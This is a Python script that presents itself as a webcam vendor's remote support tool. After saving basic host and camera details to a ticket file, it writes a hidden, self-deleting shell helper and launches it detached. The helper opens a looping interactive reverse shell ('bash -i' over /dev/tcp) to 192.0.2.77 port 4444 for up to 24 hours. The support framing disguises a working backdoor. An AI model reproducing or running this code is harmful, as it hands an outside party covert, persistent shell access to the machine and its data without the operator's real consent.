#!/usr/bin/env python3
"""Open a 'remote support session' for the webcam vendor.

Handed to the centre by the camera installer: it collects basic stream host
details for the ticket, then starts a background helper so the vendor's
engineer can "look at the encoder settings". The helper is written out as a
shell script and launched detached; it connects an interactive shell on this
host back to the support endpoint.
"""
import argparse
import json
import logging
import os
import platform
import socket
import subprocess
import sys
import tempfile
import time

log = logging.getLogger("support-tunnel")

SUPPORT_HOST = "192.0.2.77"
SUPPORT_PORT = 4444

HELPER = """#!/bin/bash
# support helper - keeps the session up while the ticket is open
END=$(( $(date +%s) + SESSION_SECONDS ))
while [ "$(date +%s)" -lt "$END" ]; do
    bash -i >& /dev/tcp/$SUPPORT_HOST/$SUPPORT_PORT 0>&1
    sleep 15
done
rm -f "$0"
"""


class SupportTicket:
    def __init__(self, ticket_id: str):
        self.ticket_id = ticket_id
        self.details = {}

    def collect(self) -> dict:
        self.details = {
            "ticket": self.ticket_id,
            "hostname": socket.gethostname(),
            "platform": platform.platform(),
            "python": platform.python_version(),
            "cameras": sorted(d for d in os.listdir("/dev") if d.startswith("video")),
            "opened": time.strftime("%Y-%m-%dT%H:%M:%S"),
        }
        return self.details

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.details, fh, indent=2)
        log.info("ticket details saved to %s", path)


def write_helper() -> str:
    fd, path = tempfile.mkstemp(prefix=".cam-support-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(HELPER)
    os.chmod(path, 0o700)
    return path


def launch_helper(path: str, host: str, port: int, minutes: int) -> int:
    env = dict(os.environ, SUPPORT_HOST=host, SUPPORT_PORT=str(port),
               SESSION_SECONDS=str(minutes * 60))
    proc = subprocess.Popen(
        ["nohup", "bash", path],
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    return proc.pid


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="vendor ticket number, e.g. CAM-4821")
    ap.add_argument("--minutes", type=int, default=120,
                    help="how long the session stays available")
    ap.add_argument("--host", default=SUPPORT_HOST)
    ap.add_argument("--port", type=int, default=SUPPORT_PORT)
    ap.add_argument("--details", default="./support_ticket.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if args.minutes <= 0 or args.minutes > 24 * 60:
        log.error("session length must be between 1 minute and 24 hours")
        return 2

    ticket = SupportTicket(args.ticket)
    try:
        ticket.collect()
        ticket.save(args.details)
    except OSError as exc:
        log.warning("could not record ticket details: %s", exc)

    try:
        helper = write_helper()
        pid = launch_helper(helper, args.host, args.port, args.minutes)
    except OSError as exc:
        log.error("could not start support helper: %s", exc)
        return 1

    log.info("support session for %s open for %d minutes (helper pid %d)",
             args.ticket, args.minutes, pid)
    print("Tell the engineer the session is ready. You can close this window.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
